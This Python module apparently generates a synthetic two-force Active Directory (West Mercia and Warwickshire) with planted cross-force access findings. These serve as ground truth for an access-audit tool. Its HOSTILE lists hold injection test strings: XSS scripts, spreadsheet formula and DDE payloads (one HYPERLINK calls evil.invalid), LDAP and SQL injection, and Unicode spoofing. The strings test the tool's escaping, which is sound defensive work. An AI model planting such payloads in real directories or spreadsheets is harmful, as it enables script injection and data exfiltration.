"""The embedded synthetic two-force directory, with its planted ground truth.

One shared domain (``alliance.local``) holds West Mercia (~2/3 of people) and Warwickshire (~1/3),
each with its own OUs, UPN suffix, mail domain, ``company``, employee-id range and group prefix,
plus a shared-services OU and the domain's built-in groups. Every cross-force access is *planted*
on purpose, and each plant records the findings it must cause in :attr:`Sample.truth` as it is
planted, from the generator's own knowledge of the structure it built (which group sits in which
layer, which accounts it picked) - never by running the expansion or the rules, or a test
comparing the two would prove nothing. The legitimate cases are recorded the same way, as they
are planted, in :attr:`Sample.legitimate` (:mod:`accessaudit.sample.legit`): no finding may
touch them.

Structure per force (prefix ``WMP-`` / ``WARKS-``)::

    account ─member─▶ DEPT-<dept> ─nested─▶ RES-<n> ─nested─▶ APP-<n>
       └────member──▶ ALL-Staff (every person: a group above 1,500 members)

Plants (each with its truth rows): stray direct members in the other force's RES groups (and so
nested access to its APP groups); a DEPT group nested into the other force's RES group; the other
force's admins in Domain Admins (nested in Administrators) and a DEPT group nested in Server
Operators; a primary group pointing at the other force's group; mixed project groups; movers
(HR says one force, OU and groups the other); unattributed accounts and an unattributed group; a
group whose OU and prefix disagree; shared service accounts in both forces' resource groups (a
split / re-home / retire decision) and shared groups (legitimate); a same-force nesting cycle
(legitimate); disabled and dormant accounts; hostile and Unicode text. Managers, managedBy,
sIDHistory of the retired pre-alliance domains, secondment accounts and an empty legacy group are
planted by :mod:`accessaudit.sample.separation`; with ``entra=True`` the shared Entra tenant
(synced users, guests, cloud groups, administrative units, enterprise applications, directory and
app roles) by :mod:`accessaudit.sample.entra`; with ``apps=True`` the application exports by
:mod:`accessaudit.sample.apps`.

Generation is vectorised (numpy + polars): per-row Python only over groups, never accounts.
"""

from __future__ import annotations

import itertools
from datetime import UTC, datetime, timedelta
from typing import Any, Final

import numpy as np
import polars as pl

from accessaudit.model import (
    ACCOUNTS_SCHEMA,
    GRANTS_SCHEMA,
    GROUPS_SCHEMA,
    MEMBERSHIPS_SCHEMA,
    AccountKind,
    MemberKind,
    Via,
    conform,
    empty,
)
from accessaudit.sample.apps import plant_apps
from accessaudit.sample.builder import (
    BUILTIN_CN,
    DOMAIN,
    FORCES,
    SHARED_OU,
    SOURCE,
    USERS_CN,
    Builder,
    Sample,
    guids,
)
from accessaudit.sample.entra import plant_entra
from accessaudit.sample.legit import legit_frame
from accessaudit.sample.separation import plant_separation

DEFAULT_NOW: Final = datetime(2026, 11, 1, tzinfo=UTC)
DORMANT_DAYS: Final = 90
MIXED_MIN_MEMBERS: Final = 5
MIXED_MIN_SHARE: Final = 0.1
#: A domain of the former forces retired before the alliance (its users remain as FSPs).
RETIRED_DOMAIN_SID: Final = "S-1-5-21-1004336348-1177238915-682003330"
#: Groups of the shared-services OU (both forces' people, legitimately).
SHARED_GROUPS: Final = ("SS-Print-Users", "SS-VPN-Users", "SS-Email-Archive")
#: Resource groups that nest department groups (the rest hold direct members only).
NEST_CAP: Final = 32

TRUTH_SCHEMA: Final = pl.Schema(
    {
        "rule_id": pl.String,
        "account_id": pl.String,
        "group_id": pl.String,
        "member_group_id": pl.String,
        "resource_id": pl.String,
        "right": pl.String,
        "depth": pl.Int32,
        "plant": pl.String,  # which plant caused it (for reading test failures)
    }
)


FIRST_NAMES: Final = (
    "Rhiannon",
    "Dafydd",
    "Gwenllian",
    "Llywelyn",
    "Siân",
    "Ffion",
    "Iolo",
    "Aneurin",
    "Cerys",
    "Gethin",
    "Bronwen",
    "Emrys",
    "Zoë",
    "José",
    "Chloé",
    "Łukasz",
    "Aoife",
    "Siobhán",
    "Niamh",
    "James",
    "Olivia",
    "Mohammed",
    "Amelia",
    "Harpreet",
    "Oliver",
    "Priya",
    "Jack",
    "Isla",
    "Thomas",
    "Grace",
    "Kwame",
    "Mei",
    "Daniel",
    "Sophie",
    "Ravi",
    "Hannah",
    "Tomasz",
    "Ellie",
    "Connor",
    "Aisha",
    "Noah",
    "Freya",
    "Callum",
    "Yusuf",
    "Megan",
    "Gareth",
    "Catrin",
    "Bethan",
)
LAST_NAMES: Final = (
    "Jones",
    "Williams",
    "Davies",
    "Evans",
    "Thomas",
    "Roberts",
    "Hughes",
    "Lewis",
    "Morgan",
    "Griffiths",
    "ap Rhys",
    "Llewellyn",
    "Prys",
    "O'Brien",
    "D'Souza",
    "O'Connor",
    "Müller",
    "Nowak",
    "Kowalczyk",
    "Ní Bhriain",
    "Øster",
    "Smith",
    "Patel",
    "Khan",
    "Brown",
    "Taylor",
    "Wilson",
    "Singh",
    "Walker",
    "Wright",
    "Green",
    "Hall",
    "Wood",
    "Clarke",
    "Okafor",
    "Chen",
    "Begum",
    "Ahmed",
    "Fletcher",
    "Moss",
    "Pryce",
    "Vaughan",
    "Bevan",
    "Powell",
    "Parry",
    "Lloyd",
)

#: Directory text is attacker-controlled: these land in display names and descriptions.
HOSTILE: Final = (
    "<script>window.__xss=1</script>",
    '"><img src=x onerror="window.__xss=1">',
    '=HYPERLINK("http://evil.invalid/?q="&A1,"Click for payslip")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "*)(uid=*",
    "*)(|(objectClass=*)",
    "Robert'); DROP TABLE users;--",
    "\u202eexe.tnemyap",
    "zero\u200bwidth\u200djoiner",
    "</script><script>window.__xss=1</script>",
    "<svg onload=window.__xss=1>",
    "+44 1905 000000",
    "-1+1",
    "\tTabbed",
)

#: ... and these in display names (of accounts that also carry a hostile description): markup,
#: spreadsheet formulas, an LDAP filter, and the Unicode tricks that make one name look like
#: another: a right-to-left override (U+202E), a zero-width joiner (U+200D), and homoglyphs
#: (Cyrillic "а" U+0430 and "А" U+0410 for Latin a and A).
HOSTILE_NAMES: Final = (
    "<script>window.__xss=1</script>",
    '=HYPERLINK("http://evil.invalid/?q="&A1,"Click for payslip")',
    "*)(uid=*",
    "Rhys Evans \u202egpj.exe",
    "Si\u00e2n\u200dJones",
    "D\u0430fydd Jones",
    "\u0410dministrator",
    '"><img src=x onerror="window.__xss=1">',
    "@SUM(1+1)*cmd|' /C calc'!A0",
)

# Builtin groups: (name, rid or builtin rid, dn container, privileged, builtin alias?)
_BUILTINS: Final = (
    ("Domain Admins", 512, USERS_CN, True, False),
    ("Domain Users", 513, USERS_CN, False, False),
    ("Domain Computers", 515, USERS_CN, False, False),
    ("Schema Admins", 518, USERS_CN, True, False),
    ("Enterprise Admins", 519, USERS_CN, True, False),
    ("Group Policy Creator Owners", 520, USERS_CN, True, False),
    ("Administrators", 544, BUILTIN_CN, True, True),
    ("Account Operators", 548, BUILTIN_CN, True, True),
    ("Server Operators", 549, BUILTIN_CN, True, True),
    ("Print Operators", 550, BUILTIN_CN, True, True),
    ("Backup Operators", 551, BUILTIN_CN, True, True),
)


def sample_settings_dict() -> dict[str, Any]:
    """Organisations and rule settings that attribute the sample (also in config.example.toml)."""
    orgs: list[dict[str, Any]] = []
    for f in FORCES:
        orgs.append(
            {
                "id": f.id,
                "name": f.name,
                "match": {
                    "employee_id": rf"^{f.employee_base // 1_000_000}\d{{6}}$",
                    "company": [f.name],
                    "ou": [f.ou],
                    "upn_suffix": [f.upn_suffix],
                    "mail_domain": [f.mail_domain],
                    "name_prefix": [f.prefix],
                    "privileged_groups": f.id == "wmp",  # West Mercia hosts the domain
                    "sources": ["csv:niche"] if f.id == "wmp" else ["csv:athena"],
                },
            }
        )
    orgs.append(
        {
            "id": "shared",
            "name": "Shared services (until the dated split)",
            "match": {
                "ou": [SHARED_OU],
                "names": ["Domain Users", "Domain Computers"],
                "owner": False,
            },
        }
    )
    return {"organisations": orgs}


# --- small vectorised helpers -----------------------------------------------------------------


def _dn_escape(expr: pl.Expr) -> pl.Expr:
    """RFC 4514 escaping of an attribute value for use in a DN."""
    out = expr.str.replace_all("\\", "\\\\", literal=True)
    for ch in (",", "+", '"', "<", ">", ";", "="):
        out = out.str.replace_all(ch, "\\" + ch, literal=True)
    return out.str.replace(r"^([ #])", r"\\$1").str.replace(r" $", r"\\ ")


def _ascii(expr: pl.Expr) -> pl.Expr:
    return expr.str.normalize("NFKD").str.to_lowercase().str.replace_all(r"[^a-z0-9]", "")


def generate(
    seed: int = 7,
    accounts: int = 6000,
    now: datetime | None = None,
    *,
    apps: bool = False,
    entra: bool = False,
) -> Sample:
    """Build the sample directory of about ``accounts`` accounts, deterministic for ``seed``.

    With ``apps``, also the hosted applications' CSV user lists (:mod:`accessaudit.sample.apps`)
    and their planted findings; with ``entra``, the shared Entra tenant
    (:mod:`accessaudit.sample.entra`, in :attr:`Sample.entra`) and its planted findings. The
    directory tables are the same either way.
    """
    if accounts < 200:
        raise ValueError("the sample needs at least 200 accounts")
    now = now or DEFAULT_NOW
    rng = np.random.default_rng(seed)
    sub = rng.integers(1_000_000_000, 4_000_000_000, size=3)
    domain_sid = f"S-1-5-21-{sub[0]}-{sub[1]}-{sub[2]}"
    b = Builder(rng, domain_sid)

    n_service = max(8, accounts // 400)
    n_unattr = max(6, accounts // 500)
    n_computers = max(10, accounts // 100)
    n_admins = {"wmp": 6, "warks": 2}
    n_people = accounts - n_service - n_unattr - n_computers - sum(n_admins.values())

    # --- people ------------------------------------------------------------------------------
    is_wmp = rng.random(n_people) < 2 / 3
    org_idx = np.where(is_wmp, 0, 1)
    seq = np.arange(n_people)
    people = pl.DataFrame(
        {
            "seq": seq,
            "org_i": org_idx,
            "first": np.array(FIRST_NAMES)[rng.integers(0, len(FIRST_NAMES), n_people)],
            "last": np.array(LAST_NAMES)[rng.integers(0, len(LAST_NAMES), n_people)],
            "dept_u": rng.random(n_people),
        }
    ).with_columns(
        org=pl.when(pl.col("org_i") == 0).then(pl.lit("wmp")).otherwise(pl.lit("warks")),
        org_seq=pl.int_range(pl.len()).over("org_i"),
    )
    ndept = (
        pl.when(pl.col("org_i") == 0)
        .then(len(FORCES[0].departments))
        .otherwise(len(FORCES[1].departments))
    )
    people = people.with_columns(dept_i=(pl.col("dept_u") * ndept).cast(pl.Int32))
    dept_names = (
        pl.when(pl.col("org_i") == 0)
        .then(pl.col("dept_i").replace_strict(dict(enumerate(FORCES[0].departments)), default=None))
        .otherwise(
            pl.col("dept_i").replace_strict(dict(enumerate(FORCES[1].departments)), default=None)
        )
    )
    people = people.with_columns(department=dept_names)

    # Movers: HR (company, employee id, mail) says the other force; OU, UPN and groups still
    # the old one. Picked from departments that no other plant uses (see below).
    planted_dept = {"wmp": "Intelligence", "warks": "CID"}  # DEPT nested into the other force
    priv_dept = "ICT"  # WARKS-DEPT-ICT nested into Server Operators
    mover_ok = ~(
        ((pl.col("org") == "wmp") & pl.col("department").is_in([planted_dept["wmp"]]))
        | (
            (pl.col("org") == "warks")
            & pl.col("department").is_in([planted_dept["warks"], priv_dept])
        )
    )
    n_movers = max(4, n_people // 200)
    pool = people.filter(mover_ok)["seq"].to_numpy()
    mover_seq = rng.choice(pool, size=n_movers, replace=False)
    people = people.with_columns(mover=pl.col("seq").is_in(mover_seq.tolist()))
    # hr_org: what HR says (the precedence org); home: where the account sits (OU, groups)
    people = people.with_columns(
        hr_org=pl.when(pl.col("mover"))
        .then(pl.when(pl.col("org") == "wmp").then(pl.lit("warks")).otherwise(pl.lit("wmp")))
        .otherwise(pl.col("org"))
    )
    people = people.with_columns(
        account_id=guids(rng, n_people),
        rid=pl.col("seq") + 1100,
        inactive_u=pl.Series(rng.random(n_people)),
        age_days=pl.Series(rng.integers(1, 30, n_people)),
        dormant_days=pl.Series(rng.integers(120, 900, n_people)),
        created_days=pl.Series(rng.integers(200, 3650, n_people)),
    )
    people = _person_columns(people, domain_sid, now)

    # --- builtin and per-force groups ---------------------------------------------------------
    for name, rid, parent, priv, builtin in _BUILTINS:
        b.group(
            name,
            parent,
            rid=rid,
            builtin=builtin,
            privileged=priv,
            scope="global" if rid in (512, 513, 515) else "universal",
        )
    b.nested("Domain Admins", "Administrators")
    b.nested("Enterprise Admins", "Administrators")

    res_groups: dict[str, list[str]] = {}
    app_groups: dict[str, list[str]] = {}
    for f in FORCES:
        grp_ou = f"OU=Groups,{f.ou}"
        n_org = int(people.filter(pl.col("org") == f.id).height)
        b.group(
            f"{f.prefix}ALL-Staff",
            grp_ou,
            scope="universal",
            description=f"Every member of staff of {f.name}",
        )
        for d in f.departments:
            b.group(f"{f.prefix}DEPT-{d}", grp_ou, description=f"{d} department")
        n_res = max(10 if f.id == "wmp" else 6, n_org // 150)
        n_app = max(4 if f.id == "wmp" else 3, n_res // 3)
        res_groups[f.id] = [f"{f.prefix}RES-{i:04d}" for i in range(n_res)]
        app_groups[f.id] = [f"{f.prefix}APP-{i:04d}" for i in range(n_app)]
        for i, r in enumerate(res_groups[f.id]):
            b.group(r, grp_ou, scope="global", description=f"Resource {i} of {f.name}")
            # two departments per resource, same force; only the first NEST_CAP resources, so
            # a person reaches a bounded number of groups at any size (a real estate has more
            # departments, not deeper reach, as it grows)
            if i < NEST_CAP:
                for k in (i, i + 5):
                    b.nested(f"{f.prefix}DEPT-{f.departments[k % len(f.departments)]}", r)
            b.nested(r, app_groups[f.id][i % n_app])
        for i, a in enumerate(app_groups[f.id]):
            b.group(a, grp_ou, scope="universal", description=f"Application {i} users")
    # a same-force nesting cycle (legitimate, but expansion must survive it)
    for name in ("WMP-CYC-A", "WMP-CYC-B", "WMP-CYC-C"):
        b.group(name, f"OU=Groups,{FORCES[0].ou}", description="Legacy nested role")
    b.nested("WMP-CYC-A", "WMP-CYC-B")
    b.nested("WMP-CYC-B", "WMP-CYC-C")
    b.nested("WMP-CYC-C", "WMP-CYC-A")
    b.nested("WMP-CYC-A", res_groups["wmp"][0])
    # every nesting so far stays inside one force: the plants below add the cross ones
    for f in FORCES:
        for name in (*(f"{f.prefix}DEPT-{d}" for d in f.departments), *res_groups[f.id]):
            b.allow_nesting("same-force-nesting", f"nesting inside {f.name}'s own groups", name)
    for name in ("WMP-CYC-A", "WMP-CYC-B", "WMP-CYC-C"):
        b.allow_nesting("cycle", "a same-force nesting cycle of legacy roles", name)
    for name in ("Domain Admins", "Enterprise Admins"):
        b.allow_nesting("privileged-nesting", "built-in nesting of the hosted admin groups", name)
    # shared services
    for name in SHARED_GROUPS:
        b.group(name, f"OU=Groups,{SHARED_OU}", scope="universal", description="Shared service")
    # an unattributed group and a group whose OU and prefix disagree
    b.group("Legacy-Scanner-Users", USERS_CN, description="Who created this?")
    b.group(
        "WMP-RES-Legacy-CAD",
        f"OU=Groups,{FORCES[1].ou}",
        scope="domain-local",
        description=HOSTILE[1],
    )
    b.group("WMP-PRJ-Joint-Firearms-Licensing", f"OU=Groups,{FORCES[0].ou}")
    b.group("WARKS-PRJ-Major-Crime-Review", f"OU=Groups,{FORCES[1].ou}")
    b.group("Legacy <script>window.__xss=1</script> Group", USERS_CN, description=HOSTILE[2])

    # --- ordinary memberships --------------------------------------------------------------
    for f in FORCES:
        staff = people.filter(pl.col("org") == f.id)
        b.members(f"{f.prefix}ALL-Staff", staff["account_id"])
        for d in f.departments:
            b.members(f"{f.prefix}DEPT-{d}", staff.filter(pl.col("department") == d)["account_id"])
        # legitimate for all but the movers (their old force's groups are planted below)
        cand = staff.filter(~pl.col("mover"))
        b.allow_rows(
            "own-force-staff",
            f"{f.name} staff in their own force's all-staff and department groups",
            pl.concat(
                [
                    cand.select("account_id", group_name=pl.lit(f"{f.prefix}ALL-Staff")),
                    cand.select(
                        "account_id", group_name=pl.lit(f"{f.prefix}DEPT-") + pl.col("department")
                    ),
                ]
            ).with_columns(depth=pl.lit(0, pl.Int32)),
        )
        # a few direct same-force members of resource groups (never movers)
        res_ids: list[pl.Series] = []
        for r in res_groups[f.id]:
            pick = rng.choice(cand.height, size=min(cand.height, 3), replace=False)
            res_ids.append(cand[pick.tolist()]["account_id"])
            b.members(r, res_ids[-1])
        b.allow_rows(
            "own-force-resource-member",
            f"{f.name} staff directly in their own force's resource group",
            pl.DataFrame(
                {
                    "account_id": pl.concat(res_ids),
                    "group_name": [
                        r for r, ids in zip(res_groups[f.id], res_ids, strict=True) for _ in ids
                    ],
                }
            ).with_columns(depth=pl.lit(0, pl.Int32)),
        )
    cyc = people.filter((pl.col("org") == "wmp") & ~pl.col("mover")).head(15)["account_id"]
    for i, name in enumerate(("WMP-CYC-A", "WMP-CYC-B", "WMP-CYC-C")):
        b.members(name, cyc[i * 5 : i * 5 + 5])
        b.allow(
            "cycle", "West Mercia staff in a same-force cycle", cyc[i * 5 : i * 5 + 5], [(name, 0)]
        )
    # primary group: Domain Users for everyone (unless planted otherwise below)
    # shared groups hold people of both forces (legitimate)
    both = people.filter(~pl.col("mover"))
    shared_why = "shared-services group, open to both forces until the dated split"
    for name, n, pick_seed in (("SS-Print-Users", 40, seed), ("SS-VPN-Users", 25, seed + 1)):
        picked = both.sample(n=min(both.height, n), seed=pick_seed)["account_id"]
        b.members(name, picked)
        b.allow("shared-group", shared_why, picked, [(name, 0)])
    b.allow("shared-group", shared_why, None, [(g, None) for g in SHARED_GROUPS])

    # --- plants ----------------------------------------------------------------------------
    # Each plant draws accounts from a pool without replacement so plants never overlap.
    used: set[str] = set(cyc.to_list())

    def draw(org: str, n: int, extra: pl.Expr | None = None) -> pl.Series:
        cond = (pl.col("org") == org) & ~pl.col("mover")
        cond = cond & ~pl.col("department").is_in(
            [planted_dept[org]] + ([priv_dept] if org == "warks" else [])
        )
        if extra is not None:
            cond = cond & extra
        cand = people.filter(cond & ~pl.col("account_id").is_in(list(used)))
        pick: pl.Series = cand[rng.choice(cand.height, size=n, replace=False).tolist()][
            "account_id"
        ]
        used.update(pick.to_list())
        return pick

    other = {"wmp": "warks", "warks": "wmp"}
    # (a) strays: direct members of the other force's resource groups, at most 2 per group
    for f in FORCES:
        targets = res_groups[other[f.id]][1:]
        n_stray = min(
            2 * len(targets), max(3, int(people.filter(pl.col("org") == f.id).height * 0.01))
        )
        strays = draw(f.id, n_stray)
        for i, acct in enumerate(strays.to_list()):
            g = targets[i % len(targets)]
            b.members(g, [acct])
            one = pl.Series([acct])
            b.plant("cross-org-direct-member", "stray", one, [(g, 0)])
            b.plant("cross-org-nested-access", "stray", one, b.ancestors(g))
    # (b) a whole department nested into the other force's resource group
    for f in FORCES:
        dept_group = f"{f.prefix}DEPT-{planted_dept[f.id]}"
        target = res_groups[other[f.id]][1]
        b.nested(dept_group, target)
        members = people.filter(
            (pl.col("org") == f.id) & (pl.col("department") == planted_dept[f.id])
        )["account_id"]
        b.plant("cross-org-group-nesting", "dept-nesting", None, [(target, 0)], dept_group)
        b.plant(
            "cross-org-nested-access",
            "dept-nesting",
            members,
            [(target, 1)] + [(g, d + 1) for g, d in b.ancestors(target)],
        )
    # (c) privileged: Warwickshire admins in Domain Admins; WARKS ICT nested in Server Operators
    admins = _admin_accounts(rng, n_admins, domain_sid, now)
    wmp_admins = admins.filter(pl.col("org") == "wmp")["account_id"]
    warks_admins = admins.filter(pl.col("org") == "warks")["account_id"]
    own_admin = "West Mercia admins in the built-in groups of the domain it hosts"
    for name, picked in (
        ("Domain Admins", wmp_admins[:3]),
        ("Enterprise Admins", wmp_admins[3:4]),
        ("Backup Operators", wmp_admins[4:6]),
    ):
        b.members(name, picked)
        b.allow("own-force-admin", own_admin, picked, [(name, 0)])
    b.members("Domain Admins", warks_admins)
    b.plant(
        "cross-org-privileged-access",
        "warks-domain-admins",
        warks_admins,
        [("Domain Admins", 0), *b.ancestors("Domain Admins")],
    )
    b.nested(f"WARKS-DEPT-{priv_dept}", "Server Operators")
    ict = people.filter((pl.col("org") == "warks") & (pl.col("department") == priv_dept))
    b.plant(
        "cross-org-group-nesting",
        "ict-server-operators",
        None,
        [("Server Operators", 0)],
        f"WARKS-DEPT-{priv_dept}",
    )
    b.plant(
        "cross-org-privileged-access",
        "ict-server-operators",
        ict["account_id"],
        [("Server Operators", 1)],
    )
    # (d) primary group pointing at the other force's resource group (in neither member list)
    pg_accounts = draw("warks", 2)
    pg_target = res_groups["wmp"][2]
    b.members(pg_target, pg_accounts, via=Via.PRIMARY_GROUP)
    b.plant("cross-org-direct-member", "primary-group", pg_accounts, [(pg_target, 0)])
    b.plant("cross-org-nested-access", "primary-group", pg_accounts, b.ancestors(pg_target))
    # (e) mixed project groups: a real share of both forces
    for grp, owner, n_own, n_other in (
        ("WMP-PRJ-Joint-Firearms-Licensing", "wmp", 20, 12),
        ("WARKS-PRJ-Major-Crime-Review", "warks", 15, 10),
    ):
        majority = draw(owner, n_own)
        b.members(grp, majority)
        b.allow(
            "own-force-member", "the owning force's members of a mixed group", majority, [(grp, 0)]
        )
        minority = draw(other[owner], n_other)
        b.members(grp, minority)
        b.plant("mixed-group", "mixed-project", None, [(grp, 0)])
        b.plant("cross-org-direct-member", "mixed-project", minority, [(grp, 0)])
    # the OU/prefix conflict group holds Warwickshire people (it resolves to Warwickshire)
    cad = draw("warks", 6)
    b.members("WMP-RES-Legacy-CAD", cad)
    b.allow(
        "own-force-member",
        "Warwickshire staff in a group whose Warwickshire OU wins over its WMP- prefix",
        cad,
        [("WMP-RES-Legacy-CAD", 0)],
    )
    b.plant("conflicting-attribution", "ou-prefix-conflict", None, [("WMP-RES-Legacy-CAD", 0)])
    # (f) unattributed: accounts with no signal at all, and two groups nobody claims
    unattr = _unattributed_accounts(rng, n_unattr, domain_sid, now)
    b.members("Legacy-Scanner-Users", unattr["account_id"][:3])
    b.members("Legacy-Scanner-Users", draw("wmp", 2))
    b.members("Legacy <script>window.__xss=1</script> Group", draw("warks", 2))
    b.plant("unattributed-with-access", "unattributed", unattr["account_id"], [])
    for g in ("Legacy-Scanner-Users", "Legacy <script>window.__xss=1</script> Group"):
        b.plant("unattributed-with-access", "unattributed-group", None, [(g, 0)])
    # (g) movers: conflict + every membership of their old force is cross-force
    movers = people.filter(pl.col("mover"))
    b.plant("conflicting-attribution", "mover", movers["account_id"], [])
    for f in FORCES:
        old = movers.filter(pl.col("org") == f.id)
        b.plant(
            "cross-org-direct-member", "mover", old["account_id"], [(f"{f.prefix}ALL-Staff", 0)]
        )
        for d in f.departments:
            acc = old.filter(pl.col("department") == d)["account_id"]
            if acc.len():
                g = f"{f.prefix}DEPT-{d}"
                b.plant("cross-org-direct-member", "mover", acc, [(g, 0)])
                b.plant("cross-org-nested-access", "mover", acc, b.ancestors(g))
    # (h) shared service accounts, members of both forces' resource groups (legitimate)
    services = _service_accounts(rng, n_service, domain_sid, now)
    for i, sid_acct in enumerate(services["account_id"].to_list()):
        b.members(res_groups["wmp"][i % len(res_groups["wmp"])], [sid_acct])
        b.members(res_groups["warks"][i % len(res_groups["warks"])], [sid_acct])
    b.allow_rows(
        "service-account",
        "a Shared Services account in a resource group (the account is a split decision)",
        pl.DataFrame(
            {
                "account_id": pl.concat([services["account_id"]] * 2),
                "group_name": [
                    res_groups[org][i % len(res_groups[org])]
                    for org in ("wmp", "warks")
                    for i in range(services.height)
                ],
            }
        ).with_columns(depth=pl.lit(0, pl.Int32)),
    )
    computers = _computer_accounts(rng, n_computers, domain_sid, now)

    # Domain Users as primary group for everyone but the planted primary-group accounts
    persons_pg = people.filter(~pl.col("account_id").is_in(pg_accounts.to_list()))["account_id"]
    for frame in (persons_pg, admins["account_id"], unattr["account_id"], services["account_id"]):
        b.members("Domain Users", frame, via=Via.PRIMARY_GROUP)
    b.members("Domain Computers", computers["account_id"], via=Via.PRIMARY_GROUP)
    b.allow(
        "primary-group",
        "the domain's shared primary groups, of every account of both forces",
        None,
        [("Domain Users", None), ("Domain Computers", None)],
    )
    # Managers, managedBy, sIDHistory, secondments, an empty legacy group: from their own
    # generator, so the plants above pick the same accounts with or without them.
    people = plant_separation(
        b,
        people,
        forces=FORCES,
        services=services["account_id"],
        res_groups=res_groups,
        cross_nested_depts=[
            *((f"{f.prefix}DEPT-{planted_dept[f.id]}", f.id, planted_dept[f.id]) for f in FORCES),
            (f"WARKS-DEPT-{priv_dept}", "warks", priv_dept),
        ],
        gen=np.random.default_rng([seed, 1]),
    )

    # --- assemble --------------------------------------------------------------------------
    all_accounts = pl.concat(
        [
            people.select(  # AD account-state columns the sample does not model stay null
                pl.col(c) if c in people.columns else pl.lit(None, t).alias(c)
                for c, t in ACCOUNTS_SCHEMA.items()
            ),
            admins.select(ACCOUNTS_SCHEMA.names()),
            unattr.select(ACCOUNTS_SCHEMA.names()),
            services.select(ACCOUNTS_SCHEMA.names()),
            computers.select(ACCOUNTS_SCHEMA.names()),
        ]
    )
    # hostile text in a few display names and descriptions (never in attribution signals;
    # the DN keeps the person's name). Synced to Entra with the rest of the account.
    host = pl.Series(HOSTILE)
    idx = rng.choice(people.height, size=min(people.height, len(HOSTILE)), replace=False)
    hostile_ids = people[idx.tolist()]["account_id"]
    named = hostile_ids[: len(HOSTILE_NAMES)]
    all_accounts = all_accounts.with_columns(
        description=pl.when(pl.col("account_id").is_in(hostile_ids.to_list()))
        .then(
            pl.col("account_id").replace_strict(hostile_ids, host[: len(hostile_ids)], default=None)
        )
        .otherwise(pl.col("description")),
        display_name=pl.when(pl.col("account_id").is_in(named.implode()))
        .then(
            pl.col("account_id").replace_strict(
                named, pl.Series(HOSTILE_NAMES[: named.len()]), default=None
            )
        )
        .otherwise(pl.col("display_name")),
    )
    all_accounts = conform(all_accounts, ACCOUNTS_SCHEMA)

    gids = guids(rng, len(b.groups))
    for grp_row, gid in zip(b.groups, gids.to_list(), strict=True):
        grp_row["group_id"] = gid
    groups = pl.DataFrame(b.groups).drop("rid")
    groups = conform(groups, GROUPS_SCHEMA)
    name_to_id = dict(zip(groups["name"].to_list(), groups["group_id"].to_list(), strict=True))
    name_map = pl.DataFrame({"group_name": list(name_to_id), "group_id": list(name_to_id.values())})

    acct_edges = pl.concat(b.edges).join(name_map, on="group_name").drop("group_name")
    nest_edges = pl.DataFrame(
        {
            "group_id": [name_to_id[p] for _, p in b.nest],
            "member_id": [name_to_id[c] for c, _ in b.nest],
        },
        schema={"group_id": pl.String, "member_id": pl.String},
    ).with_columns(member_kind=pl.lit(MemberKind.GROUP.value), via=pl.lit(Via.MEMBER.value))
    # Foreign security principals: users of the retired pre-alliance domains, still members
    # (as CN=<SID>,CN=ForeignSecurityPrincipals) of a resource group of each force. No rule
    # fires on them (no organisation can be read from a bare SID); collectors must keep them.
    fsp = {res_groups["warks"][2]: "1105", res_groups["wmp"][3]: "1321"}
    fsp_edges = pl.DataFrame(
        {
            "group_id": [name_to_id[g] for g in fsp],
            "member_id": [f"{RETIRED_DOMAIN_SID}-{rid}" for rid in fsp.values()],
        }
    ).with_columns(member_kind=pl.lit(MemberKind.FOREIGN.value), via=pl.lit(Via.MEMBER.value))
    b.allow_rows(
        "foreign-principal",
        "a user of a retired pre-alliance domain: no force can be read from a bare SID",
        fsp_edges.select(account_id="member_id", group_name=pl.Series(list(fsp)), depth=0),
    )
    memberships = pl.concat([acct_edges.select(nest_edges.columns), nest_edges, fsp_edges])
    memberships = conform(
        memberships.with_columns(source=pl.lit(SOURCE)).unique(
            ["group_id", "member_id"], keep="first", maintain_order=True
        ),
        MEMBERSHIPS_SCHEMA,
    )

    # Applications last, so the directory is identical with or without them.
    exports = plant_apps(b, people, draw, rng) if apps else {}
    tenant = (
        plant_entra(b, people, admins, all_accounts, gen=np.random.default_rng([seed, 2]), now=now)
        if entra
        else {}
    )
    every_account = pl.concat([all_accounts, tenant["accounts"]]) if tenant else all_accounts
    truth = _truth_frame(b, name_map, every_account, now)
    legit = legit_frame(b.legit, b.legit_groups, b.legit_ids, name_map)
    tables = {
        "accounts": all_accounts,
        "groups": groups,
        "memberships": memberships,
        "grants": empty(GRANTS_SCHEMA),
    }
    return Sample(
        tables,
        truth,
        now,
        seed,
        domain_sid,
        sample_settings_dict(),
        exports,
        tenant,
        legitimate=legit,
    )


#: Rules whose findings are an account's cross-force access (what "inactive" rows derive from).
_ACCESS_RULES = (
    "cross-org-direct-member",
    "cross-org-nested-access",
    "cross-org-privileged-access",
    "cross-org-directory-role",
    "cross-org-app-role",
)
TRUTH_KEYS: Final = ["rule_id", "account_id", "group_id", "member_group_id", "resource_id", "right"]


def _truth_frame(
    b: Builder, name_map: pl.DataFrame, accounts: pl.DataFrame, now: datetime
) -> pl.DataFrame:
    raw = pl.concat([t.select(sorted(t.columns)) for t in b.truth], how="vertical")
    member_map = name_map.rename({"group_name": "member_group_name", "group_id": "member_group_id"})
    truth = (
        raw.join(name_map, on="group_name", how="left")
        .join(member_map, on="member_group_name", how="left")
        .with_columns(  # application roles are named by their CSV role id already
            group_id=pl.when(pl.col("group_name").str.starts_with("csv:"))
            .then(pl.col("group_name"))
            .otherwise(pl.col("group_id"))
        )
    )
    by_ids = [
        conform(t.with_columns(pl.col(pl.Null).cast(pl.String)), TRUTH_SCHEMA) for t in b.truth_ids
    ]
    truth = pl.concat([_conform_truth(truth), *by_ids])
    # Findings per (rule, ids) are unique: the plants never overlap by construction, so a
    # duplicate here is a generator bug worth failing loudly on.
    dupes = truth.filter(truth.select(TRUTH_KEYS).is_duplicated())
    if dupes.height:
        raise AssertionError(f"sample plants overlap: {dupes.head(5)}")
    # Inactive (disabled or dormant) accounts keeping any planted cross-force access.
    cross = pl.concat(
        [
            truth.filter(pl.col("rule_id").is_in(_ACCESS_RULES)).select("account_id"),
            *(s.to_frame("account_id") for s in b.reach),
        ]
    ).drop_nulls()
    cutoff = now - timedelta(days=DORMANT_DAYS)
    inactive = accounts.filter(
        ~pl.col("enabled") | (pl.coalesce("last_logon", "created") < cutoff)
    ).select("account_id")
    rule8 = (
        cross.join(inactive, on="account_id", how="semi")
        .unique()
        .with_columns(rule_id=pl.lit("inactive-cross-org-access"), plant=pl.lit("inactive"))
    )
    out = pl.concat([truth, conform(rule8, TRUTH_SCHEMA)])
    return out.sort(TRUTH_KEYS, nulls_last=True)


